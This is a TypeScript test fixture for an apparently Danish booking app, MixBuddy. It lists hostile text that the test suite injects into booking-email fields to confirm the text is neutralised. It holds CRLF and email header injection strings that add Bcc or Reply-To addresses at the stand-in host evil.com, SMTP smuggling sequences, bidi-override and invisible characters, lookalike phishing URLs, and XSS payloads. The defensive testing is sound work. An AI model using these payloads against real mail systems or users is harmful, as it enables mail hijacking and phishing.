/**
 * Text an attacker types where MixBuddy's booking and message emails quote it — a menu title, a
 * name, an address, a booking message, a decline note, a cancellation reason — to add a header, a
 * line of "our" text, a link to their host dressed as ours, or to reorder and hide what the reader
 * sees (PayloadsAllTheThings: CRLF injection, Unicode line terminators; OWASP: email header
 * injection, homoglyph and IDN spoofing, Trojan Source's bidi controls). Each is placed in every
 * field, cut to the field's length, and must come out of the mail as inert text
 * (tests/security/booking-emails.test.ts).
 */
export type EmailTextPayload = { kind: 'lines' | 'invisible' | 'lookalike' | 'markup' | 'long'; text: string };

const lines: string[] = [
  'X\r\nBcc: angriber@evil.com',
  'X\r\nSubject: Din konto er lukket\r\n\r\nLog ind på https://evil.com',
  'X\nReply-To: angriber@evil.com',
  'X\rTo: alle@evil.com',
  'X\n\nVenlig hilsen\nMixBuddy\n\nDin betaling mislykkedes',
  'X\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<a href="https://evil.com">Betal</a>',
  'X\r\n.\r\nMAIL FROM:<angriber@evil.com>', // SMTP smuggling: an end of data inside the data
  'X\n.\nRCPT TO:<alle@evil.com>',
  'X\r.\rDATA',
  'X%0d%0aBcc: angriber@evil.com',
  'X%0ASubject: Din konto er lukket',
  'X%250d%250aBcc: dobbelt@evil.com',
  'X\u0085Bcc: nel@evil.com',
  'X\u2028Reply-To: ls@evil.com',
  'X\u2029Din konto er spærret',
  'X\u000bBcc: vt@evil.com',
  'X\u000cBcc: ff@evil.com',
  'X\t\tBcc: tab@evil.com',
  'X\u001b[31mRØD',
];

const invisible: string[] = [
  'Ole \u202Ekd.yddubxim//:sptth\u202C', // right-to-left override: a reversed address
  'Pris \u202E001 kr\u202C',
  'Menu \u2066\u2067\u2068\u2069skjult',
  'Mix\u200BBuddy',
  'Mix\u200CBu\u200Dddy',
  'Mix\u2060Buddy\uFEFF',
  'Mix\u00ADBuddy',
  'Menu\u200E\u200F\u061C',
  'Menu \u202Aa\u202Bb\u202Cc\u202Dd',
];

const lookalike: string[] = [
  'Log ind på https://mіxbuddy.dk/login', // Cyrillic і
  'Log ind på https://mixbuddу.dk/login', // Cyrillic у
  'Log ind på https://mіхbuddу.dk', // Cyrillic і х у
  'Betal på https://mixbuddy.dk.evil.com/betal',
  'Betal på https://mixbuddy.dk@evil.com/betal',
  'Betal på https://evil.com/mixbuddy.dk/betal',
  'Betal på mixbuddy-login.dk',
  'Betal på www.mixbuddy-support.com',
  'Betal på ｈｔｔｐｓ：／／ｍｉｘｂｕｄｄｙ．ｄｋ．evil．com', // fullwidth
  'Betal på mixbuddy。dk', // ideographic full stop
  'Betal på https://m1xbuddy.dk',
  'Betal på https://mix-buddy.dk/login',
  'Betal på (https://MIXBUDDY.DK.evil.com).',
  'Betal på //mixbuddy.dk.evil.com/betal',
  'Betal på https://xn--mxbuddy-6cg.dk', // the Cyrillic і's punycode: shows as itself, not as ours
];

const markup: string[] = [
  '<a href="https://evil.com">MixBuddy</a>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '[MixBuddy](https://evil.com)',
  '[https://mixbuddy.dk](https://evil.com)',
  '<https://mixbuddy.dk.evil.com>',
  '**Vigtigt fra MixBuddy**: betal igen',
  '&lt;b&gt; &amp; &#x3C;i&#x3E;',
  '<!-- skjult --> ]]> <![CDATA[',
];

const long: string[] = [
  'A'.repeat(5000),
  `${'mixbuddy.dk.evil.com '.repeat(300)}`,
  `Start ${'æøå🍸'.repeat(600)} slut`,
  `${'X\r\n'.repeat(400)}Bcc: mange@evil.com`,
];

export const emailTextPayloads: EmailTextPayload[] = [
  ...lines.map((text) => ({ kind: 'lines' as const, text })),
  ...invisible.map((text) => ({ kind: 'invisible' as const, text })),
  ...lookalike.map((text) => ({ kind: 'lookalike' as const, text })),
  ...markup.map((text) => ({ kind: 'markup' as const, text })),
  ...long.map((text) => ({ kind: 'long' as const, text })),
];
